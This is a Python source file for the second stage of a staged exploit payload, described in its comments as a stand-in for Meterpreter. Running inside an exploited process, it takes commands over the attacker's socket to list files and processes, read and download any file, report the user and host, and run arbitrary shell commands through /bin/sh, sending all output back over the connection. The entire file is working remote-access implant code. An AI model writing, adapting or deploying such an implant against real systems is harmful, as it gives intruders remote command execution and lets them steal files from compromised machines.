# Second stage of the staged payload (a stand-in for Java/Python Meterpreter): exec'd in
# the exploited process by the stager, with the stager's socket `s`; one command a line.
# Commands: getuid, sysinfo, pwd, ls DIR, cat FILE, ps, download FILE, shell CMD, exit.
import os
import platform
import subprocess

f = s.makefile('rb')
for raw in f:
    cmd, _, arg = raw.decode().strip().partition(' ')
    if cmd == 'getuid':
        out = f'uid={os.getuid()} pid={os.getpid()}'
    elif cmd == 'sysinfo':
        out = ' '.join(platform.uname())
    elif cmd == 'pwd':
        out = os.getcwd()
    elif cmd == 'ls':
        out = '\n'.join(f'{os.lstat(os.path.join(arg, n)).st_mode:o} {n}' for n in sorted(os.listdir(arg)))
    elif cmd in ('cat', 'download'):
        try:
            with open(arg, 'rb') as h:
                out = h.read().decode('latin-1')
        except OSError as e:
            out = str(e)
    elif cmd == 'ps':
        out = ''
        for p in os.listdir('/proc'):
            if p.isdigit():
                try:
                    with open(f'/proc/{p}/comm') as h:
                        out += f'{p} {h.read().strip()}\n'
                except OSError:
                    pass
    elif cmd == 'shell':
        r = subprocess.run(['/bin/sh', '-c', arg], capture_output=True)
        out = (r.stdout + r.stderr).decode('latin-1')
    elif cmd == 'exit':
        break
    else:
        out = f'unknown command {cmd}'
    data = out.encode('latin-1', 'replace')
    s.sendall(str(len(data)).encode() + b'\n' + data)
